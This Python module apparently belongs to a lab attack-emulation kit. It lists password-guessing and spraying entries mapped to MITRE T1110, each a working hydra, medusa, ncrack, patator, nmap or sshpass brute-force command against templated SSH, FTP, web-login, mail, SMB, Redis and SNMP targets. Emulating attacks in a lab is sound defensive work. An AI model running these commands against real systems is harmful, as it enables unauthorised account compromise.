"""Passwords: T1110. Guessing is .001, spraying one password over many names or hosts .003."""
from labkit.attack import Attack


def _hydra(name, service, options="-t 4", **more):
    return Attack(name, "T1110.001", f"hydra -I -l root -P {{passwords}} {options} {service}", **more)


ENTRIES = [
    _hydra("hydra-ssh", "ssh://{target}"),
    _hydra("hydra-ftp", "ftp://{target}"),
    _hydra("hydra-http-basic", "http-get://{target}/private"),
    _hydra("hydra-https-basic", "https-get://{target}/private"),
    _hydra("hydra-http-form", "'http-post-form://{target}/login:u=^USER^&p=^PASS^:F=wrong'"),
    _hydra("hydra-smtp", "smtp://{target}"),
    _hydra("hydra-imap", "imap://{target}"),
    _hydra("hydra-pop3", "pop3://{target}"),
    Attack("hydra-smb", "T1110.001", "hydra -I -l {user} -P {passwords} smb://{target}"),  # the server lets in whom it does not know
    Attack("hydra-redis", "T1110.001", "hydra -I -P {passwords} -t 4 redis://{target}"),
    Attack("hydra-snmp", "T1110.001", "hydra -I -P {passwords} -t 4 snmp://{target}"),
    _hydra("hydra-ssh-slow", "ssh://{target}", "-t 1 -c 3", seconds=40),
    _hydra("hydra-ftp-slow", "ftp://{target}", "-t 1 -c 5", seconds=40),
    _hydra("outside-hydra-ssh", "ssh://{shop}", attacker="outside", victims=("shop",)),
    Attack("hydra-ssh-spray", "T1110.003", "hydra -I -L {users} -p Summer2026! -t 1 -T 16 -M {hosts} ssh", victims=("targets",)),
    Attack("hydra-imap-spray", "T1110.003", "hydra -I -L {users} -p Summer2026! -t 2 imap://{target}"),
    Attack("medusa-ssh", "T1110.001", "medusa -h {target} -u root -P {passwords} -M ssh -t 3"),
    Attack("medusa-ftp", "T1110.001", "medusa -h {target} -u root -P {passwords} -M ftp -t 3"),
    Attack("ncrack-ssh", "T1110.001", "ncrack --user root -P {passwords} ssh://{target}"),
    Attack("patator-ftp", "T1110.001", "patator ftp_login host={target} user=FILE0 password=FILE1 0={users} 1={passwords} -t 4"),
    Attack("patator-http-form", "T1110.001", "patator http_fuzz url=http://{target}/login method=POST body='u=root&p=FILE0' 0={passwords} -t 4"),
    Attack("nmap-ftp-brute", "T1110.001", "nmap -n -Pn -p 21 --script ftp-brute {target}"),
    Attack("onesixtyone-communities", "T1110.001", "onesixtyone -c {passwords} -w 50 {target}"),
    Attack("sshpass-handful", "T1110.001", "for p in a b c d e f; do sshpass -p $p {ssh_plain} root@{target} true; sleep 2; done"),
]
